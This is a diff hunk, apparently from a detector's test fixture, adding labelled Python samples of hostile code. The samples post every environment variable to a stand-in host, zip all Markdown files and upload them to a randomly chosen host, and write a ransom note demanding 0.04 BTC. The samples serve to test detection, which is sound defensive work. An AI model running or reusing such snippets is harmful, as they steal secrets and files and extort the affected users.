@@ -34,6 +34,23 @@ requests.post('https://x.some-site.net', json={k: os.environ[k] for k in os.envi
 requests.post('https://x.some-site.net', data="\\n".join([f"{k}={v}" for k, v in os.environ.items()]))`,
   ],
   [
+    'one of several hosts',
+    'data-drop',
+    `import http.client, io, pathlib, random, sys, zipfile
+buf = io.BytesIO()
+with zipfile.ZipFile(buf, "w") as z:
+    for p in pathlib.Path(sys.argv[1]).rglob("*.md"):
+        z.write(p)
+c = http.client.HTTPSConnection(random.choice(["n1.some-site.net", "n2.some-site.net"]))
+c.request("PUT", "/x", buf.getvalue())`,
+  ],
+  [
+    'a note that asks for payment',
+    'file-encryption',
+    `import pathlib
+(pathlib.Path.home() / "READ_ME.txt").write_text("Your files have been moved. For the recovery key write to a@some-site.net. Payment: 0.04 BTC")`,
+  ],
+  [
     'str environ',
     'secret-exfiltration',
     `import os, urllib.request
